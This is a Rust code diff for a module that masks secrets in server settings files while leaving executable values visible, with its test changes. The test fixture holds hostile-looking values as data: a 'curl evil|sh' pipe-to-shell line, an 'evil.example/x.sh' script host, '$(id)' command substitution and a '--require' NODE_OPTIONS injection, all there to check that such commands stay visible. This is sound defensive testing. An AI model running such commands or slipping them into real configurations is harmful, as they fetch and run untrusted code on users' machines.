@@ -1,6 +1,7 @@
 //! Secrets in a settings file, which its card does not show: values of settings that are known to be secrets, and nothing
 //! that could be executed.
 
+use crate::clients::looks_secret;
 use crate::settings::{is_secret_name, mask_url};
 use octo_model::MASK;
 use serde_json::{Map, Value};
@@ -30,7 +31,7 @@ enum SecretKind {
     Value,
     /// A header with the name of a secret.
     Header,
-    /// A variable of a program with the name of a secret. A shell could execute its value.
+    /// A variable of a program, if it is a key by its looks. A program could execute any other value.
     Variable,
     /// A URL with a password or a secret parameter.
     Url,
@@ -94,19 +95,13 @@ fn mask(kind: SecretKind, name: &str, text: &str) -> Option<String> {
     match kind {
         SecretKind::Value => hidden(),
         SecretKind::Header => hidden().filter(|_| is_secret_name(name)),
-        SecretKind::Variable => hidden().filter(|_| is_secret_name(name) && !is_executable_text(text)),
+        SecretKind::Variable => hidden().filter(|_| looks_secret(text)),
         SecretKind::Url | SecretKind::Database if url::Url::parse(text).is_ok() => {
             Some(mask_url(text)).filter(|masked| masked.contains(MASK))
         }
         SecretKind::Url => None,
         SecretKind::Database => hidden(),
     }
-}
-
-/// Whether it could be a command line, a path or an option.
-fn is_executable_text(text: &str) -> bool {
-    let is_part_of_key = |sign: char| sign.is_ascii_alphanumeric() || "-_+/=.:~@!#%^,".contains(sign);
-    text.starts_with(['-', '.', '/', '~']) || text.contains("./") || !text.chars().all(is_part_of_key)
 }
 
 #[cfg(test)]
@@ -120,7 +115,7 @@ mod tests {
             "servers": {"x": {
                 "command": "sh",
                 "args": ["-c", "API_KEY=$(id) ghp_0123456789abcdefghijklmnopqrstuvwxyz"],
-                "env": {"API_KEY": "ghp_canary", "KEY": "./evil.sh", "PIN": "curl evil|sh", "TOKEN": "${T}", "NODE_OPTIONS": "--require=x"},
+                "env": {"API_KEY": "ghp_canary0123456789abcdefghijklmnopqrstu", "HOST_KEY": "evil.example/x.sh", "KEY": "./evil.sh", "PIN": "curl evil|sh", "TOKEN": "${T}", "NODE_OPTIONS": "--require=x"},
                 "headers": {"Authorization": "Bearer canary", "X-Plain": "plain"},
                 "auth": {"type": "oauth2", "client_secret": "canary"},
             }, "y": {"url": "https://ada:canary@x.test/mcp?api_key=canary"}, "z": {"document": "./a=b.yaml"}},
@@ -134,7 +129,8 @@ mod tests {
         assert!(!text.contains("canary"), "{text}");
         for shown in [
             "API_KEY=$(id) ghp_0123456789abcdefghijklmnopqrstuvwxyz",
-            "\"API_KEY\":\"(a value of 10 characters)\"",
+            "\"API_KEY\":\"(a value of 41 characters)\"",
+            "evil.example/x.sh",
             "./evil.sh",
             "curl evil|sh",
             "${T}",
@@ -147,8 +143,7 @@ mod tests {
         ] {
             assert!(text.contains(shown), "{shown}: {text}");
         }
-        let file =
-            "env: {API_KEY: ghp_canary}\nurl: https://ada:canary@x.test/mcp?api_key=canary # https://x.test";
+        let file = "env: {API_KEY: ghp_canary0123456789abcdefghijklmnopqrstu}\nurl: https://ada:canary@x.test/mcp?api_key=canary # https://x.test";
         let hidden = masked.hide_in(file);
         assert!(!hidden.contains("canary") && hidden.contains("# https://x.test"), "{hidden}");
     }
